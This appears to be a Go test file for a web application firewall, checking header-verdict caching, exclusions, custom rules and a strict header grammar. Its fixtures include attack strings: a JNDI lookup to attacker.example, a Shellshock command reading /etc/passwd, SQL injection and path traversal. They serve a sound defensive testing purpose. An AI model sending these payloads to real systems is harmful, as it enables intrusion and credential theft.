package waf

import (
	"context"
	"fmt"
	"net/http/httptest"
	"strings"
	"testing"

	"rampart/internal/waf/detect"
)

// TestHeaderCacheSameVerdicts: a header value judged from the cache gets
// the same verdict as one inspected afresh, and exclusions and custom rules
// still apply to cached values.
func TestHeaderCacheSameVerdicts(t *testing.T) {
	values := []string{
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
		"sqlmap/1.7.2#stable (https://sqlmap.org)",
		"${jndi:ldap://attacker.example/a}",
		"() { :; }; /bin/bash -c 'cat /etc/passwd'",
		"https://shop.example/cart?step=checkout",
		"1' UNION SELECT username, password FROM users--",
	}
	warm, err := New(Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	cold, err := New(Config{NoCache: true}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, v := range values {
		for round := range 3 { // the first fills the cache, the others read it
			r := httptest.NewRequest("GET", "/", nil)
			r.Header.Set("User-Agent", v)
			r.Header.Set("X-Custom", v)
			got := warm.Inspect(context.Background(), &Request{HTTP: r})
			want := cold.Inspect(context.Background(), &Request{HTTP: r})
			if got.Attack != want.Attack || got.Score != want.Score || fmt.Sprint(got.Findings) != fmt.Sprint(want.Findings) {
				t.Errorf("round %d, %q: cached verdict %+v, fresh %+v", round, v, got, want)
			}
		}
	}

	e, err := New(Config{
		Exclusions: []Exclusion{{Class: "jndi", Location: "header:x-trusted"}},
		Rules:      []Rule{{ID: "no-bot", Target: "header:user-agent", Operator: "contains", Value: "badbot", Action: "block"}},
	}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for range 2 {
		r := httptest.NewRequest("GET", "/", nil)
		r.Header.Set("X-Trusted", "${jndi:ldap://attacker.example/a}")
		if v := e.Inspect(context.Background(), &Request{HTTP: r}); v.Attack {
			t.Errorf("excluded header blocked: %+v", v)
		}
		r = httptest.NewRequest("GET", "/", nil)
		r.Header.Set("X-Other", "${jndi:ldap://attacker.example/a}")
		if v := e.Inspect(context.Background(), &Request{HTTP: r}); !v.Attack {
			t.Errorf("same value in another header passed: %+v", v)
		}
		r = httptest.NewRequest("GET", "/", nil)
		r.Header.Set("User-Agent", "Mozilla/5.0 (compatible; BadBot/2.0; +https://badbot.example/about)")
		if v := e.Inspect(context.Background(), &Request{HTTP: r}); !v.Attack {
			t.Errorf("custom rule on a cached header value did not block: %+v", v)
		}
	}
}

// TestHeaderCacheBounded: distinct values never grow the cache past its
// bound.
func TestHeaderCacheBounded(t *testing.T) {
	e, err := New(Config{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := range 3 * cacheShards * cacheShardMax {
		r := httptest.NewRequest("GET", "/", nil)
		r.Header.Set("User-Agent", fmt.Sprintf("client-%06d (compatible; probe)", i))
		e.Inspect(context.Background(), &Request{HTTP: r})
	}
	n := 0
	for i := range e.cache.shards {
		n += len(e.cache.shards[i].m)
	}
	if n == 0 || n > cacheShards*cacheShardMax {
		t.Errorf("cache holds %d entries, want 1..%d", n, cacheShards*cacheShardMax)
	}
	long := strings.Repeat("a(b) ", cacheValueMax)
	r := httptest.NewRequest("GET", "/", nil)
	r.Header.Set("User-Agent", long)
	e.Inspect(context.Background(), &Request{HTTP: r})
	if e.cache.get(cacheKey{"user-agent", long}) != nil {
		t.Error("a value over cacheValueMax was cached")
	}
}

func TestWellFormedHeader(t *testing.T) {
	tests := []struct {
		name, value string
		want        bool
	}{
		{"accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8", true},
		{"accept", "application/json, text/plain, */*", true},
		{"accept", "application/vnd.api+json; version=2", true},
		{"accept-language", "en-GB,en;q=0.9,de;q=0.8", true},
		{"accept-language", "zh-Hant-TW, *;q=0.5", true},
		{"accept-charset", "utf-8, iso-8859-1;q=0.5", true},
		{"content-type", "application/json; charset=utf-8", true},
		{"content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", true},
		// Not the strict grammar: inspected as usual.
		{"accept", "../../../../etc/passwd", false},
		{"accept", "text/html/../../etc/passwd", false},
		{"accept", "text/html' OR '1'='1", false},
		{"accept", "text/html;q=0.9 union select 1", false},
		{"accept", "${jndi:ldap://x/a}", false},
		{"accept-language", "../../../../etc/passwd%00", false},
		{"accept-language", "en-GB;q=0.9 or 1=1", false},
		{"accept-language", "toolonglanguage", false},
		{"content-type", `multipart/form-data; boundary="quoted"`, false},
		{"content-type", "application/json; charset=utf-8; x=<script>", false},
		{"content-type", "text/plain, text/html", false},
		{"user-agent", "curl/8.0", false},
		{"accept", "", false},
	}
	for _, tt := range tests {
		if got := wellFormedHeader(tt.name, tt.value); got != tt.want {
			t.Errorf("wellFormedHeader(%q, %q) = %v, want %v", tt.name, tt.value, got, tt.want)
		}
	}
}

func FuzzWellFormedHeader(f *testing.F) {
	for _, s := range []string{"text/html,*/*;q=0.8", "en-GB,en;q=0.9", "a/b; c=d", "*", "x/y/z"} {
		f.Add("accept", s)
		f.Add("accept-language", s)
		f.Add("content-type", s)
	}
	det := Detectors()
	f.Fuzz(func(t *testing.T, name, value string) {
		if !wellFormedHeader(name, value) {
			return
		}
		// What the grammar lets through must be what no detector flags.
		for _, b := range []byte(value) {
			if !(isAlnum(b) || strings.IndexByte("-+._/*,;= \t", b) >= 0) {
				t.Fatalf("%q accepted with byte %q", value, b)
			}
		}
		if strings.Contains(value, "..") {
			t.Fatalf("%q accepted with ..", value)
		}
		in := detect.Input{Value: value, Raw: value, Kind: detect.KindHeader, Name: name}
		for _, d := range det {
			for _, m := range d.Detect(&in, nil) {
				if m.Score >= 5 && m.Paranoia == 1 {
					t.Fatalf("%s: %q is well-formed but %s scores %d", name, value, m.Rule, m.Score)
				}
			}
		}
	})
}
